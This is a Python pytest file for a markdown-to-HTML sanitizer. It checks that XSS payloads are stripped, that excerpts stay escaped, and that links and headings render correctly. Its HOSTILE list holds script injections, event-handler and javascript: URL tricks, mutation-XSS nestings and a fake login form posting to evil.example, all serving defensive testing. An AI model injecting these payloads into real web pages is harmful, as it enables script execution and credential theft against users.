import re
import time
from html.parser import HTMLParser

import pytest

from muniment.platform.web import markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="/sign-out">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https://x.example" onclick="alert(1)" style="inset:0" id="content">x</a>',
    '<a href="https://x.example" target="_blank">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div class='past is-past' style='color:red'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "<!--><img src=x onerror=alert(1)>-->",
    "<div hx-get='/api/v1/me' hx-trigger='load'>x</div>",
    "<p data-hx-get='/x' data-opens='shortcuts'>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "\x00<script>\x00alert(1)</script>",
]
ALLOWED = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}


class Reader(HTMLParser):
    """Notes every element and attribute of a text."""

    def __init__(self):
        super().__init__()
        self.tags = set()
        self.attributes = {}

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name): value for name, value in attrs}


def read(text):
    reader = Reader()
    reader.feed(markdown.to_html(text))
    return reader


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_loads_or_leaves_its_place(text):
    reader = read(text)
    assert reader.tags <= markdown._TAGS
    assert reader.attributes.keys() <= ALLOWED
    href = reader.attributes.get(("a", "href"), "https://")
    assert href.startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("text", HOSTILE)
def test_an_excerpt_is_text_that_the_template_still_escapes(text):
    assert not hasattr(markdown.excerpt(text), "__html__")


def test_ordinary_writing_keeps_its_form():
    html = markdown.to_html("A *b* **c** ~~d~~ `e`\n\n- f\n\n| g |\n| - |\n| h |")
    for tag in ("em", "strong", "s", "code", "li", "table"):
        assert f"<{tag}>" in html


def test_links_go_out_without_saying_where_from():
    html = markdown.to_html("[x](https://example.org/a)")
    assert 'href="https://example.org/a" rel="nofollow noopener noreferrer"' in html


def test_the_highest_heading_stands_below_those_of_the_page():
    tags = re.findall(r"<h\d", markdown.to_html("## a\n\n#### b\n\n## c"))
    assert tags == ["<h3", "<h4", "<h3"]


def test_an_image_is_its_words():
    assert "<p>a picture</p>" in markdown.to_html("![a picture](https://example.org/p.png)")


def test_an_excerpt_is_the_first_paragraph():
    text = "# Title\n\nFirst **words** with a [link](https://example.org).\n\nSecond."
    assert markdown.excerpt(text) == "First words with a link."


def test_an_excerpt_of_headings_alone_is_the_first():
    assert markdown.excerpt("# Title") == "Title"
    assert markdown.excerpt("") == ""


def test_an_excerpt_ends_between_words():
    assert markdown.excerpt("one two three four", 12) == "one two…"


@pytest.mark.parametrize("text", ["[" * 20_000, "*a " * 20_000, "> " * 5_000, "`" * 20_000])
def test_no_text_takes_long(text):
    began = time.process_time()
    markdown.to_html(text)
    assert time.process_time() - began < 5
